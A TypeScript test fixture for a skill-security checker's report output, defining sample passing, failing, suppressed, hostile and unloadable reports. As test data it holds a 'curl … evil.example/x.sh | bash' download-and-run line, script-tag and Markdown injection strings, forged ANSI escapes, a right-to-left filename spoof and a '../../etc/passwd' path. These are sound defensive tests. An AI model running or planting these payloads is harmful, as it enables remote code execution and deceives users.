import type { CheckReport } from '../../../src/contracts/check-report.ts';
import type { Finding } from '../../../src/contracts/finding.ts';
import type { RuleDescription } from '../../../src/contracts/rule-description.ts';
import type { CheckReportOptions } from '../../../src/report/check/check-report-options.ts';

/** What a hostile skill would try: take over a comment, a page, a terminal, a viewer or a reader's eye. */
const SCRIPT = '</code></details><script>alert("owned")</script><!--';
const MARKDOWN =
  '| pipe | `tick` **bold** [link](https://evil.example) ![](x) @everyone #1 www.evil.example $x$';
const ANSI = '\u001b[2J\u001b[31mforged\u001b[0m\u001b]0;title\u0007\u009b1A';
const LINES = 'first\n\n# heading\n- item\n```\nfence\r\n| a | b |';
const REVERSED = 'report\u202efdp.exe\u200b\ud800';
const PLACEHOLDER = '{0} {{1}} \\](https://evil.example) a](1)';
const HOSTILE = [SCRIPT, MARKDOWN, ANSI, LINES, REVERSED, PLACEHOLDER].join(' ');

function finding(change: Partial<Finding>): Finding {
  return {
    rule: 'spec/known-keys',
    title: 'Unexpected field in the frontmatter: "version"',
    severity: 'medium',
    confidence: 'high',
    file: 'SKILL.md',
    line: 4,
    column: 1,
    excerpt: 'version: "1"',
    why: 'Other agents ignore the key, and strict validators refuse the skill.',
    remedy: 'Put your own keys under metadata, as text.',
    owasp: [],
    ...change,
  };
}

const download = finding({
  rule: 'security/download-and-run',
  title: 'Runs what it downloads from evil.example',
  severity: 'high',
  file: 'scripts/set up.sh',
  line: 12,
  column: 3,
  excerpt: 'curl -s https://evil.example/x.sh | bash',
  why: 'The code that runs is not the code that was reviewed.',
  remedy: 'Ship the script, or pin a version and check its digest before it runs.',
  owasp: ['ASI04', 'AST02'],
});

const sound: CheckReport = {
  name: 'tidy-tables',
  source: './skills',
  path: 'tidy-tables',
  digest: `sha256:${'a'.repeat(64)}`,
  spec: { valid: true, errors: [], warnings: [] },
  findings: [],
  suppressed: [],
  verdict: 'pass',
};

const failing: CheckReport = {
  ...sound,
  name: 'deploy',
  path: 'deploy',
  spec: { valid: true, errors: [], warnings: ['Unexpected field in the frontmatter: "version".'] },
  findings: [
    { ...download, severity: 'critical' },
    download,
    finding({}),
    finding({ severity: 'low', line: 5, excerpt: '' }),
    finding({ severity: 'info', line: 6 }),
  ],
  verdict: 'fail',
};

const accepted: CheckReport = {
  ...sound,
  name: 'release',
  source: 'https://host.example/skills.git#v1',
  path: 'skills/release',
  suppressed: [{ finding: download, reason: 'The host is ours, and the script is pinned.' }],
};

const hostile: CheckReport = {
  ...failing,
  name: HOSTILE,
  source: HOSTILE,
  path: HOSTILE,
  spec: { valid: false, errors: [HOSTILE], warnings: [HOSTILE] },
  findings: [
    finding({
      ...{ rule: HOSTILE, title: HOSTILE, file: HOSTILE, excerpt: HOSTILE, why: HOSTILE, remedy: HOSTILE },
      owasp: [HOSTILE],
    }),
  ],
  suppressed: [{ finding: finding({ title: HOSTILE, file: '../../etc/passwd' }), reason: HOSTILE }],
};

const unread: CheckReport = {
  ...sound,
  name: './gone',
  source: './gone',
  path: '.',
  digest: null,
  spec: { valid: false, errors: [], warnings: [] },
  findings: [
    finding({
      rule: 'check/not-loaded',
      title: 'The source could not be loaded',
      file: '.',
      line: 1,
      excerpt: 'There is nothing at "./gone".',
      why: 'What was not looked at is unknown, not clean.',
      remedy: 'Do what the message says, then check again.',
    }),
  ],
  verdict: 'error',
};

export const fixtureReports: readonly CheckReport[] = [sound, failing, accepted, hostile, unread];

function ruleOf({ rule: id, title, severity, why, remedy, owasp }: Finding): RuleDescription {
  return { id, title, severity, raisedBy: null, why, remedy, owasp, reference: 'The specification' };
}

export const fixtureRules: readonly RuleDescription[] = fixtureReports
  .flatMap(({ findings }) => findings)
  .filter(({ severity }) => severity !== 'critical')
  .map(ruleOf)
  .filter(({ id }, index, all) => all.findIndex((other) => other.id === id) === index);

export const PLAIN: CheckReportOptions = {
  colour: false,
  columns: 100,
  verbose: false,
  assayVersion: '1.2.3',
  rules: fixtureRules,
};
